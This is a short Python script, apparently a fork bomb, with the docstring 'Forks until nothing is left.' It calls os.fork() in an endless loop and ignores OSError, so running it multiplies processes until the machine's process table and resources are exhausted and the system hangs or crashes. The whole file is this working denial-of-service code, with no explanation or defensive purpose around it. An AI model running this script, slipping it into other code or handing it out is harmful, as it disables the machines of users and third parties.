"""Forks until nothing is left."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
